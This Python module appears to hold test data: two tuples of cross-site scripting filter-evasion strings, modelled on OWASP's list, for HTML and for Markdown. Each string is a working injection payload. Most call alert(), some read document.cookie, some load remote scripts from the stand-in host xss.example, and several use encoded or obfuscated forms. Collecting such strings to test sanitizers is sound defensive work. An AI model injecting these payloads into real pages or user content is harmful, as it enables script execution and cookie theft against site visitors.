"""Strings by which scripts have slipped past filters, after OWASP's list, and some in Markdown.

Each calls alert(): a browser that runs one of them shows a window.
"""

#: In HTML: broken tags, hidden schemes, encodings, elements that load or refresh.
IN_HTML = (
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    (
        "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+"
        "/[*/[]/+alert(42);//'>"
    ),
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    (
        '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099'
        "&#0000114&#0000105"
        "&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039"
        '&#0000088&#0000083&#0000083&#0000039&#0000041">'
    ),
    (
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;"
        "&#108;&#101;&#114;"
        "&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>"
    ),
    (
        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65"
        "&#x72&#x74&#x28"
        "&#x27&#x58&#x53&#x53&#x27&#x29>"
    ),
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<IMG SRC=java\x00script:alert("XSS")>',
    '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<SCRIPT/SRC="https://xss.example/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=https://xss.example/xss.js?< B >",
    "<SCRIPT SRC=//xss.example/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=https://xss.example/scriptlet.html <",
    "\\\";alert('XSS');//",
    '</script><script>alert("XSS");</script>',
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    '<IMG SRC="livescript:[code]">',
    "<svg/onload=alert('XSS')>",
    "Set.constructor`alert\\x28document.domain\\x29```",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<LINK REL="stylesheet" HREF="https://xss.example/xss.css">',
    "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
    '<META HTTP-EQUIV="Link" Content="<https://xss.example/xss.css>; REL=stylesheet">',
    '<STYLE>BODY{-moz-binding:url("https://xss.example/xssmoz.xml#xss")}</STYLE>',
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    "<XSS STYLE=\"xss:expression(alert('XSS'))\">",
    '<XSS STYLE="behavior: url(xss.htc);">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    (
        '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVy'
        "dCgnWFNTJyk8L"
        '3NjcmlwdD4K">'
    ),
    '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert(\'XSS\');">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    '<IFRAME SRCDOC="<script>parent.alert(1)</script>"></IFRAME>',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+" type="image/svg+xml">',
    '<?xml version="1.0"?><xss:test onload=alert(1)></xss:test>',
    '<SCRIPT a=">" SRC="https://xss.example/xss.js"></SCRIPT>',
    '<SCRIPT =">" SRC="https://xss.example/xss.js"></SCRIPT>',
    '<SCRIPT a=">\'>" SRC="https://xss.example/xss.js"></SCRIPT>',
    '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://xss.example/xss.js"></SCRIPT>',
    "<A HREF=\"javascript:document.location='https://xss.example/'\">XSS</A>",
    '<A HREF="//xss.example/" onclick="alert(1)">XSS</A>',
    '<a href="\x01javascript:alert(1)">XSS</a>',
    '<a href="javascript&colon;alert(1)">XSS</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">XSS</a>',
    "<details open ontoggle=alert(1)><summary>XSS</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>XSS</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>XSS</button></form>",
    '<button formaction="javascript:alert(1)" form=x>XSS</button>',
    (
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>"
        "</mtext></math>"
    ),
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>XSS</text></a></svg>",
    "<template><script>alert(1)</script></template>",
    "<div style=animation-name:x onanimationstart=alert(1)>XSS</div>",
    '<p id="__config">{"search": "https://xss.example/"}</p>',
    '<a id="content" name="location" href="tel:1">XSS</a>',
)

#: In Markdown: links, images, lists of attributes, and HTML where Markdown lets it through.
IN_MARKDOWN = (
    "[XSS](javascript:alert('XSS'))",
    "[XSS](JaVaScRiPt:alert(1))",
    "[XSS](java\tscript:alert(1))",
    "[XSS](&#106;avascript:alert(1))",
    "[XSS](javascript&colon;alert(1))",
    "[XSS](<javascript:alert(1)>)",
    "[XSS](vbscript:alert(1))",
    "[XSS](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[XSS][evasion]\n\n[evasion]: javascript:alert(1)",
    "![XSS](javascript:alert(1))",
    '![XSS](x "title"){onerror=alert(1)}',
    '[XSS](# "title"){: onclick="alert(1)"}',
    '**XSS**{: style="behavior: url(x)"}',
    '## XSS {: onmouseover="alert(1)" #__search}',
    "<javascript:alert(1)>",
    "text <img src=x onerror=alert(1)> text",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <script>alert(1)</script> |",
    "- item\n- <svg onload=alert(1)>",
    "> <iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<div markdown=1>\n\n<script>alert(1)</script>\n\n</div>",
    "<!-- -->\n<script>alert(1)</script>",
    "``` \n```\n<script>alert(1)</script>",
    "\\<script>alert(1)</script>",
)
